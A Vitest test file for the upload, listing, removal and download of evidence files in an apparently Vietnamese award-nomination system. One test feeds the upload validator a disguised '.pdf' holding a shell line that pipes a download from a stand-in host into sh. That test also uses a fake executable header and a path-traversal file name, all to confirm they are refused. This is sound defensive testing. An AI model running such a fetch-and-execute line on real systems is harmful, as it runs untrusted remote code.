import { createHash, randomUUID } from "node:crypto";
import { readdir } from "node:fs/promises";
import path from "node:path";
import { buffer } from "node:stream/consumers";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createActor, createUnit } from "../../scripts/test/factories";
import { docx, jpeg1x1, pdf, png1x1, xlsx } from "../../scripts/test/sample-files";
import { createPrismaClient } from "../db";
import type { NominationStatus } from "../generated/prisma/enums";
import type { Actor } from "../session";
import { fileStorage } from "../storage";
import { FileRefusedError } from "./file-rules";
import {
  addNominationFile,
  getNominationFiles,
  listNominationFiles,
  openNominationFileForDownload,
  removeNominationFile,
} from "./files";

const client = createPrismaClient({ connectionString: process.env.TEST_DATABASE_URL! });
afterAll(() => client.$disconnect());

const megabyte = 1024 * 1024;

let world: {
  a: Awaited<ReturnType<typeof createUnit>>;
  officerA: Actor;
  officerB: Actor;
  officerRoot: Actor;
  staffA: Actor;
  admin: Actor;
  movementId: string;
  awardTitleId: string;
};

beforeAll(async () => {
  const root = await createUnit(client, { name: `Công đoàn hồ sơ ${randomUUID().slice(0, 6)}` });
  const a = await createUnit(client, { parent: root });
  const b = await createUnit(client, { parent: root });
  const movement = await client.movement.create({
    data: {
      code: `NF-${randomUUID().slice(0, 8)}`,
      name: `Phong trào tệp minh chứng ${randomUUID().slice(0, 6)}`,
      description: "Phong trào dùng cho kiểm thử tệp hồ sơ.",
      organizingUnitId: root.id,
      coverageUnitId: root.id,
      startsOn: new Date("2026-01-01"),
      endsOn: new Date("2026-12-31"),
      status: "OPEN",
      awardTitles: {
        create: [{ position: 1, name: "Điển hình tiên tiến", eligibility: "BOTH", approvalThresholdPercent: 60 }],
      },
    },
    include: { awardTitles: true },
  });
  world = {
    a,
    officerA: await createActor(client, { role: "OFFICER", unit: a }),
    officerB: await createActor(client, { role: "OFFICER", unit: b }),
    officerRoot: await createActor(client, { role: "OFFICER", unit: root }),
    staffA: await createActor(client, { role: "STAFF", unit: a }),
    admin: await createActor(client, { role: "ADMIN", unit: root }),
    movementId: movement.id,
    awardTitleId: movement.awardTitles[0]!.id,
  };
});

/** A nomination of a person of unit A, in `status`. */
async function nomination(status: NominationStatus = "DRAFT") {
  const nomineeName = `Nguyễn Văn Thử ${randomUUID().slice(0, 6)}`;
  return client.nomination.create({
    data: {
      movementId: world.movementId,
      awardTitleId: world.awardTitleId,
      unitId: world.a.id,
      nominatingUnitId: world.a.id,
      createdById: world.officerA.id,
      nomineeKind: "INDIVIDUAL",
      nomineeName,
      nomineeNameSearch: nomineeName.toLowerCase(),
      status,
    },
  });
}

/** File rows that take `sizeBytes` of a dossier's evidence total, without storing anything. */
async function evidenceRows(nominationId: string, sizes: number[]) {
  for (const sizeBytes of sizes) {
    await client.nominationFile.create({
      data: {
        nominationId,
        kind: "EVIDENCE",
        storageKey: `test/${randomUUID()}`,
        fileName: "cu.pdf",
        mimeType: "application/pdf",
        sizeBytes,
        sha256: "0".repeat(64),
        uploadedById: world.officerA.id,
      },
    });
  }
}

/** Files in the store, not counting half-written ones. */
async function storedFileCount(): Promise<number> {
  const root = process.env.UPLOAD_DIR!;
  const entries = await readdir(root, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries.filter((entry) => entry.isFile() && !path.relative(root, entry.parentPath).startsWith("partial"))
    .length;
}

const refusal = (promise: Promise<unknown>) =>
  promise.then(
    () => "accepted",
    (error: unknown) => (error instanceof FileRefusedError ? error.reason : (error as { code?: string }).code),
  );

const upload = (
  actor: Actor,
  nominationId: string,
  fileName: string,
  bytes: Uint8Array,
  kind: "EVIDENCE" | "PORTRAIT" = "EVIDENCE",
) => addNominationFile({ actor, nominationId, kind, fileName, bytes });

describe("adding files", () => {
  it("stores an evidence PDF with its sanitized name, type, size and checksum, and records it", async () => {
    const { id } = await nomination();
    const bytes = pdf("Bao cao thanh tich");
    const file = await upload(world.officerA, id, "../Báo cáo \r\nthành tích.pdf", bytes);
    expect(file).toMatchObject({
      kind: "EVIDENCE",
      fileName: "Báo cáo thành tích.pdf",
      mimeType: "application/pdf",
      sizeBytes: bytes.length,
    });
    const row = await client.nominationFile.findUniqueOrThrow({ where: { id: file.id } });
    expect(row.sha256).toBe(createHash("sha256").update(bytes).digest("hex"));
    expect(row.uploadedById).toBe(world.officerA.id);
    expect(await buffer(await fileStorage().stream(row.storageKey))).toEqual(bytes);
    const events = await client.auditEvent.findMany({ where: { objectId: id } });
    expect(events).toMatchObject([
      {
        action: "nomination.file_added",
        actorId: world.officerA.id,
        after: { fileId: file.id, fileName: "Báo cáo thành tích.pdf" },
      },
    ]);
  });

  it("accepts JPEG, PNG, DOCX and XLSX evidence, named by what they really are", async () => {
    const { id } = await nomination();
    const names = [];
    for (const [name, bytes] of [
      ["anh.jpeg", jpeg1x1],
      ["anh-gui-nham.pdf", png1x1],
      ["Báo cáo", docx()],
      ["bang-diem.XLSX", xlsx()],
    ] as const) {
      names.push((await upload(world.officerA, id, name, bytes)).fileName);
    }
    expect(names).toEqual(["anh.jpeg", "anh-gui-nham.png", "Báo cáo.docx", "bang-diem.XLSX"]);
  });

  it("refuses empty, oversize, disguised and truncated files, and stores none of them", async () => {
    const { id } = await nomination();
    const before = await storedFileCount();
    const complete = pdf();
    expect(await refusal(upload(world.officerA, id, "rong.pdf", new Uint8Array()))).toBe("fileEmpty");
    expect(await refusal(upload(world.officerA, id, "qua-lon.pdf", pdf("A".repeat(10 * megabyte))))).toBe(
      "fileTooLarge",
    );
    expect(
      await refusal(upload(world.officerA, id, "bao-cao.pdf", Buffer.from("#!/bin/sh\ncurl evil.example | sh\n"))),
    ).toBe("fileTypeNotAllowed");
    expect(
      await refusal(
        upload(world.officerA, id, "chuong-trinh.pdf", Buffer.concat([Buffer.from("MZ"), Buffer.alloc(200)])),
      ),
    ).toBe("fileTypeNotAllowed");
    expect(await refusal(upload(world.officerA, id, "dut-doan.pdf", complete.subarray(0, complete.length - 30)))).toBe(
      "fileCorrupt",
    );
    expect(await client.nominationFile.count({ where: { nominationId: id } })).toBe(0);
    expect(await storedFileCount()).toBe(before);
  });

  it("refuses evidence past 50 MB per dossier, not counting removed files", async () => {
    const { id } = await nomination();
    await evidenceRows(id, [10 * megabyte, 10 * megabyte, 10 * megabyte, 10 * megabyte, 5 * megabyte]);
    const sixMegabytes = pdf("A".repeat(6 * megabyte));
    expect(await refusal(upload(world.officerA, id, "them.pdf", sixMegabytes))).toBe("nominationFilesTooLarge");
    // A portrait does not count towards the evidence total.
    expect(await refusal(upload(world.officerA, id, "chan-dung.png", png1x1, "PORTRAIT"))).toBe("accepted");
    const removable = await client.nominationFile.findFirstOrThrow({ where: { nominationId: id, kind: "EVIDENCE" } });
    await client.nominationFile.update({ where: { id: removable.id }, data: { removedAt: new Date() } });
    expect(await refusal(upload(world.officerA, id, "them.pdf", sixMegabytes))).toBe("accepted");
  });

  it("lets only one of two simultaneous uploads into the last megabytes, and cleans up the other's bytes", async () => {
    const { id } = await nomination();
    await evidenceRows(id, [10 * megabyte, 10 * megabyte, 10 * megabyte, 10 * megabyte]);
    const before = await storedFileCount();
    const outcomes = await Promise.all([
      refusal(upload(world.officerA, id, "mot.pdf", pdf(`1${"A".repeat(6 * megabyte)}`))),
      refusal(upload(world.officerRoot, id, "hai.pdf", pdf(`2${"A".repeat(6 * megabyte)}`))),
    ]);
    expect(outcomes.sort()).toEqual(["accepted", "nominationFilesTooLarge"]);
    expect(await client.nominationFile.count({ where: { nominationId: id, removedAt: null } })).toBe(5);
    expect(await storedFileCount()).toBe(before + 1);
  });

  it("takes a JPEG or PNG portrait up to 5 MB, and a new portrait replaces the old one", async () => {
    const { id } = await nomination();
    expect(await refusal(upload(world.officerA, id, "chan-dung.pdf", pdf(), "PORTRAIT"))).toBe("fileTypeNotAllowed");
    expect(
      await refusal(
        upload(world.officerA, id, "chan-dung.png", Buffer.concat([png1x1, Buffer.alloc(5 * megabyte)]), "PORTRAIT"),
      ),
    ).toBe("fileTooLarge");
    const first = await upload(world.officerA, id, "chan-dung.png", png1x1, "PORTRAIT");
    const second = await upload(world.officerA, id, "chan-dung-moi.jpg", jpeg1x1, "PORTRAIT");
    expect((await client.nominationFile.findUniqueOrThrow({ where: { id: first.id } })).removedAt).not.toBeNull();
    expect((await listNominationFiles({ actor: world.officerA, nominationId: id }))?.map((f) => f.id)).toEqual([
      second.id,
    ]);
    const actions = (await client.auditEvent.findMany({ where: { objectId: id }, orderBy: { at: "asc" } })).map(
      (e) => e.action,
    );
    expect(actions).toEqual(["nomination.file_added", "nomination.file_removed", "nomination.file_added"]);
  });
});

describe("who may change a dossier's files", () => {
  it("refuses changes once the dossier is submitted, and allows them again when it is returned", async () => {
    const draft = await nomination();
    const kept = await upload(world.officerA, draft.id, "giu.pdf", pdf());
    await client.nomination.update({ where: { id: draft.id }, data: { status: "SUBMITTED" } });
    expect(await refusal(upload(world.officerA, draft.id, "sau-khi-nop.pdf", pdf()))).toBe("notEditable");
    expect(await refusal(removeNominationFile({ actor: world.officerA, fileId: kept.id }))).toBe("notEditable");
    await client.nomination.update({ where: { id: draft.id }, data: { status: "RETURNED" } });
    expect(await refusal(upload(world.officerA, draft.id, "bo-sung.pdf", pdf()))).toBe("accepted");
    for (const status of ["IN_REVIEW", "APPROVED", "REJECTED", "WITHDRAWN"] as const) {
      const { id } = await nomination(status);
      expect(await refusal(upload(world.officerA, id, "x.pdf", pdf())), status).toBe("notEditable");
    }
  });

  it("lets officers of the unit and the units above change files; others cannot, and cannot tell it exists", async () => {
    const { id } = await nomination();
    expect(await refusal(upload(world.officerRoot, id, "cap-tren.pdf", pdf()))).toBe("accepted");
    const file = await upload(world.officerA, id, "cua-a.pdf", pdf());
    for (const actor of [world.officerB, world.staffA, null]) {
      expect(await refusal(upload(actor!, id, "la.pdf", pdf()))).toBe("not_found");
      expect(await refusal(removeNominationFile({ actor, fileId: file.id }))).toBe("not_found");
    }
    // Administrators see dossiers but return them rather than write them.
    expect(await refusal(upload(world.admin, id, "quan-tri.pdf", pdf()))).toBe("forbidden");
    expect(await refusal(upload(world.officerA, randomUUID(), "khong-co.pdf", pdf()))).toBe("not_found");
  });
});

describe("removing, listing and downloading", () => {
  it("removal marks the file removed and keeps its row and bytes; removing twice is harmless", async () => {
    const { id } = await nomination();
    const bytes = pdf("Giu lai");
    const file = await upload(world.officerA, id, "go-bo.pdf", bytes);
    await removeNominationFile({ actor: world.officerA, fileId: file.id });
    await removeNominationFile({ actor: world.officerA, fileId: file.id });
    const row = await client.nominationFile.findUniqueOrThrow({ where: { id: file.id } });
    expect(row.removedAt).not.toBeNull();
    expect(await buffer(await fileStorage().stream(row.storageKey))).toEqual(bytes);
    expect(await listNominationFiles({ actor: world.officerA, nominationId: id })).toEqual([]);
    const events = await client.auditEvent.findMany({ where: { objectId: id, action: "nomination.file_removed" } });
    expect(events).toMatchObject([{ actorId: world.officerA.id, before: { fileId: file.id } }]);
    // Part of the dossier's history: still downloadable by those who may see it.
    const download = await openNominationFileForDownload({ actor: world.officerA, fileId: file.id });
    expect(await buffer(download!.stream)).toEqual(bytes);
  });

  it("lists and serves files to those who may see the dossier, and to nobody else", async () => {
    const { id } = await nomination();
    const bytes = png1x1;
    const file = await upload(world.officerA, id, "Ảnh hoạt động.png", bytes);
    for (const actor of [world.officerA, world.officerRoot, world.admin]) {
      expect((await listNominationFiles({ actor, nominationId: id }))?.map((f) => f.fileName)).toEqual([
        "Ảnh hoạt động.png",
      ]);
      const download = await openNominationFileForDownload({ actor, fileId: file.id });
      expect(download).toMatchObject({ fileName: "Ảnh hoạt động.png", mimeType: "image/png", sizeBytes: bytes.length });
      expect(await buffer(download!.stream)).toEqual(bytes);
    }
    for (const actor of [world.officerB, world.staffA, null]) {
      expect(await listNominationFiles({ actor, nominationId: id })).toBeNull();
      expect(await openNominationFileForDownload({ actor, fileId: file.id })).toBeNull();
    }
    expect(await getNominationFiles({ actor: world.admin, nominationId: id })).toMatchObject({ canEdit: false });
    expect(await getNominationFiles({ actor: world.officerRoot, nominationId: id })).toMatchObject({ canEdit: true });
  });

  it("serves a dossier's files to the reviewers assigned to it, and not to other reviewers", async () => {
    const { id } = await nomination("SUBMITTED");
    const bytes = pdf("Cho hoi dong");
    await client.nomination.update({ where: { id }, data: { status: "DRAFT" } });
    const file = await upload(world.officerA, id, "bao-cao.pdf", bytes);
    await client.nomination.update({ where: { id }, data: { status: "IN_REVIEW" } });
    const assigned = await createActor(client, { role: "REVIEWER", unit: world.a });
    const other = await createActor(client, { role: "REVIEWER", unit: world.a });
    await client.review.create({ data: { nominationId: id, reviewerId: assigned.id } });
    const download = await openNominationFileForDownload({ actor: assigned, fileId: file.id });
    expect(download).toMatchObject({ fileName: "bao-cao.pdf", mimeType: "application/pdf" });
    expect(await buffer(download!.stream)).toEqual(bytes);
    expect(await openNominationFileForDownload({ actor: other, fileId: file.id })).toBeNull();
  });

  it("answers a file whose bytes are gone as not found", async () => {
    const { id } = await nomination();
    const file = await upload(world.officerA, id, "mat.pdf", pdf());
    const row = await client.nominationFile.findUniqueOrThrow({ where: { id: file.id } });
    await fileStorage().delete(row.storageKey);
    expect(await openNominationFileForDownload({ actor: world.officerA, fileId: file.id })).toBeNull();
  });
});
